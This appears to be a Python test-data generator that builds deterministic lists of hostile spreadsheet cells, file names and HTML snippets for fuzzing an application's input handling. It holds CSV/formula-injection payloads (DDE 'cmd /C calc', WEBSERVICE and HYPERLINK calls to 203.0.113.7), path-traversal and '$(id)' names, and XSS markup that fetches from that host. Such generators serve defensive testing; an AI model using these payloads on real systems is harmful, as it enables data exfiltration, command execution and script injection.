"""Words, names and markup that want to be more than words: 5,000 cells, 500 names and 500 payloads, the same each time."""

from itertools import islice, product

_LEADS = (
    "", " ", "  ", "\t", "\n", "\r", "\r\n", "\0", "'", "''", "\ufeff", "\u200b", "\u00a0", "\u3000", "\u2028", "\u3164",
)  # fmt: skip
_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "﹢",
    "﹣",
    "⁺",
    "₌",
    "−",
    "=\u200b",
    "\u202e=",
    "%",
    "|",
)
_TAILS = (
    "1+1",
    'HYPERLINK("http://203.0.113.7/?"&A1,"open me")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://203.0.113.7/")',
    "SUM(A1:A9)*2",
    'IMPORTXML("http://203.0.113.7","//a")',
    'DDE("cmd";"/C calc";"x")',
    "2",
    "-1",
    "name",
    'a","b","=1+1',
    'a\r\n=1+1,"x',
    "a;=1+1;b",
    "a\t=1+1\tb",
    "",
    "\u0661+\u0661",
    "R[-1]C",
    "\ud800",
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "👩🏽‍🚀",
)
_ODD = (
    "<r><t>x</t></r>",
    '<r></r></is></c><c r="C1"><f>1+1</f></c><c><is><r></r>',
    "_x003D_1+1",
    "_x000D_",
    "a\0b\x01c\x1fd\x7f",
    "\u202e1+1=\u202c",
    "{=1+1}",
    "]]>",
    "\\n=1",
    "x" * 40_000,
    "=" + "1+" * 20_000,
)


def cells(count: int = 5_000) -> list[str]:
    """Cells that a spreadsheet, a separator or an encoding could take for something else."""
    made = (f"{lead}{sign}{tail}" for lead, sign, tail in product(_LEADS, _SIGNS, _TAILS))
    return [*_ODD, *islice(dict.fromkeys(made), count - len(_ODD))]


def names(count: int = 500) -> list[str]:
    """File names that lead elsewhere, or that a system cannot hold."""
    heads = (
        "../", "../../", "/", "//", "\\", "..\\", "C:\\", "~/", "./", "a/../../", "\0", "%2e%2e/", "．．／", "con.", "-rf ",
    )  # fmt: skip
    middles = (
        "etc/passwd",
        "voice",
        "\u202egnp.exe",
        "a" * 300,
        "",
        "🙂",
        "x\ny",
        "nul",
        "$(id)",
        "a:b",
        "é",
    )
    ends = (".oga", "", "..", "/", ".oga/..", ".csv\0.oga", " ", ".EXE")
    made = (f"{head}{middle}{end}" for head, middle, end in product(heads, middles, ends))
    return list(islice(dict.fromkeys(made), count))


def markup(count: int = 500) -> list[str]:
    """What would run, load or show something if a page took it for markup."""
    starts = (
        "",
        '"',
        "'",
        "-->",
        "]]>",
        "</dd>",
        "</span>",
        "</title>",
        "</style>",
        "&lt;",
        "\0",
        "<!--",
        "`",
    )
    bodies = (
        "<script>fetch('//203.0.113.7')</script>",
        "<img src=x onerror=fetch('//203.0.113.7')>",
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe srcdoc='<script>alert(1)</script>'>",
        '<meta http-equiv="refresh" content="0;url=//203.0.113.7">',
        "<style>@import '//203.0.113.7'</style>",
        '<link rel="stylesheet" href="//203.0.113.7">',
        "<base href='//203.0.113.7'>",
        "<form action='//203.0.113.7'><button>",
        "<math><mtext></form><form>",
        "&#60;script&#62;",
        "<ScRiPt >alert(1)</sCrIpT >",
    )
    ends = ("", ">", '" autofocus onfocus=alert(1) x="')
    return list(islice((f"{a}{b}{c}" for a, b, c in product(starts, bodies, ends)), count))
